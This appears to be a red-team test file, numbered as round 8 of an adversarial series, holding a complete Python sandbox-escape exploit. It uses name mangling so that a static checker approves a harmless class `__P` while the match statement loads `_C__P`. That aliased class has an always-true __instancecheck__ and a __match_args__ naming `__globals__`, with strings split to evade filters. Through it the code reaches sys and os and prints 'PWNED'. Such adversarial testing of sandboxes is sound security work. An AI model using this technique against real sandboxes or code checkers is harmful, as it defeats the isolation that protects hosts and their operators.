# adversary round 8: 001: name mangling: walker vouches for plain class `__P`, CPython loads `_C__P` (aliased-type metaclass with __instancecheck__ + __match_args__) -> C getattr of __globals__
import dataclasses
mk = type
M = mk('M', (mk,), {'__instance' + 'check__': lambda cls, obj: True})
_C__P = M('P', (), {'__match' + '_args__': ('__glo' + 'bals__',)})


class __P:
    pass


class C:
    def grab(subject):
        match subject:
            case __P(g):
                return g
        return None


g = C.grab(dataclasses.fields)
print(type(g), len(g))
s = g['sys']
print(type(s), s)
o = s.modules['os']
print('os.getpid =', o.getpid(), 'sys.modules has', len(s.modules))
print('PWN' + 'ED')
